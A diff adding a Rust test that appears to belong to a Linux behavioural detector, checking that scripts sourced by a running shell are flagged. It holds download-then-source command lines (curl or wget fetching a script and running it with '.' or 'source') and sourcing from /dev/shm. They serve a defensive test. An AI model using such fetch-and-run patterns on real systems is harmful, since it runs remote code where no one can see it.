@@ -1374,6 +1374,127 @@ fn binaries_and_scripts_fetched_by_a_downloader_then_run() {
     );
 }
 
+/// Scripts the running shell reads itself (`. x.sh`, `source x.sh`): no exec names them. The
+/// kernel reports a shell's read-only open of a file another process wrote or one on a tmpfs,
+/// and a `dup2` of that fd (a redirection: data); the detector judges the open at the shell's
+/// next fork, exec or exit.
+#[test]
+fn scripts_sourced_by_the_running_shell() {
+    if !privileged("scripts_sourced_by_the_running_shell") {
+        return;
+    }
+    let url = http_server();
+    let dir = Scratch::new("sourced");
+    let n = nonce();
+    let mut clean = Cleanup::default();
+    let shm_script = clean.file(format!("/dev/shm/vigil-{n}-src.sh"));
+    std::fs::write(&shm_script, "true\n").expect("script in /dev/shm");
+    let shm_data = clean.file(format!("/dev/shm/vigil-{n}-data"));
+    std::fs::write(&shm_data, "a\nb\n").expect("data in /dev/shm");
+    // Each form as lines of a script file, run by `shell`.
+    let script = |shell: &str, name: &str, body: &str| {
+        let path = dir.path(name);
+        std::fs::write(&path, format!("{body}\n")).expect("script");
+        detect(run(Command::new(shell).arg(&path).current_dir(&dir.0)))
+    };
+    let what = "script read by a running shell";
+    let download = "behaviour-download-exec";
+    for (name, shell, body, writer) in [
+        (
+            "curl-dot",
+            "/bin/bash",
+            format!("curl -s -o x1.sh {url}/x.sh\n. ./x1.sh"),
+            "/usr/bin/curl",
+        ),
+        (
+            "wget-source",
+            "/bin/bash",
+            format!("wget -q -O x2.sh {url}/x.sh\nsource x2.sh"),
+            "/usr/bin/wget",
+        ),
+        (
+            "curl-dot-dash",
+            "/bin/sh",
+            format!("curl -s -o x3.sh {url}/x.sh\n. ./x3.sh\necho done"),
+            "/usr/bin/curl",
+        ),
+    ] {
+        let found = script(shell, &format!("{name}.sh"), &body);
+        let f = of(&found, download);
+        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
+        assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
+        assert_eq!(f[0].context.additional["downloadedBy"], writer, "{name}");
+        assert_eq!(f[0].context.additional["executedFile"], what, "{name}");
+        assert!(
+            f[0].context
+                .file_path
+                .as_deref()
+                .is_some_and(|p| p.starts_with(dir.0.to_str().unwrap_or("-")) && p.ends_with(".sh")),
+            "{name}: {:?}",
+            f[0].context.file_path
+        );
+    }
+    let memory = "behaviour-exec-from-memory-dir";
+    for (name, shell, body) in [
+        ("shm-dot", "/bin/bash", format!(". {shm_script}")),
+        ("shm-source", "/bin/bash", format!("source {shm_script}")),
+        (
+            "shm-dot-dash",
+            "/bin/sh",
+            format!(". {shm_script}\nls >/dev/null"),
+        ),
+    ] {
+        let found = script(shell, &format!("{name}.sh"), &body);
+        let f = of(&found, memory);
+        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
+        assert_eq!(f[0].severity_label, SeverityLabel::Medium, "{name}");
+        assert_eq!(f[0].context.file_path.as_deref(), Some(shm_script.as_str()));
+        assert_eq!(f[0].context.additional["executedFile"], what, "{name}");
+    }
+    // Benign: a download read as data by bash (redirections, `$(< f)`, `exec 3< f` and
+    // `read -u 3`: bash sources only after an `fstat` of the fd) and by dash (a redirection
+    // dup2s the fd), by a program that is not a shell, by python; a script the shell wrote
+    // itself; /dev/shm data redirected into a loop or read by cat.
+    for (name, shell, body) in [
+        (
+            "read-loop",
+            "/bin/bash",
+            format!(
+                "curl -s -o list.txt {url}/list\nwhile read -r l; do :; done < list.txt\n\
+                 read -r v < list.txt\nmapfile -t a < list.txt\ngrep -q x list.txt\n\
+                 v=$(< list.txt)\nexec 3< list.txt\nwhile read -r -u 3 l; do :; done\n\
+                 exec 3<&-\nls >/dev/null\n\
+                 python3 -c \"import json; json.load(open('list.txt'))\"\ncat list.txt >/dev/null"
+            ),
+        ),
+        (
+            "read-loop-dash",
+            "/bin/sh",
+            format!("wget -q -O list.txt {url}/list\nwhile read -r l; do :; done < list.txt\nls"),
+        ),
+        (
+            "local",
+            "/bin/bash",
+            "printf 'true\\n' > local.sh\n. ./local.sh\nsource ./local.sh".to_owned(),
+        ),
+        (
+            "shm-data",
+            "/bin/bash",
+            format!(
+                "while read -r l; do :; done < {shm_data}\ncat {shm_data} >/dev/null\n\
+                 grep -q a < {shm_data}"
+            ),
+        ),
+    ] {
+        let found = script(shell, &format!("{name}.sh"), &body);
+        assert!(
+            found.iter().all(|f| f.severity_label == SeverityLabel::Low),
+            "{name}: nothing at Medium or above: {:?}",
+            kinds(&found)
+        );
+    }
+}
+
 /// Runs `script` as a script file (`sh FILE`), so that no argv holds what it does: the way a
 /// third-party test or a dropped script runs it.
 fn sh_file(dir: &Scratch, name: &str, script: &str) -> u32 {
@@ -1709,5 +1830,6 @@ fn the_loader_preload_list_written_from_a_script() {
     assert_eq!(f[0].context.file_path.as_deref(), Some(path));
     // Reading it: nothing.
     let pid = sh_file(&scratch, "read.sh", &format!("cat {path} >/dev/null\n"));
-    assert!(detect(pid).is_empty(), "read");
+    let found = detect(pid);
+    assert!(found.is_empty(), "read: {:?}", kinds(&found));
 }
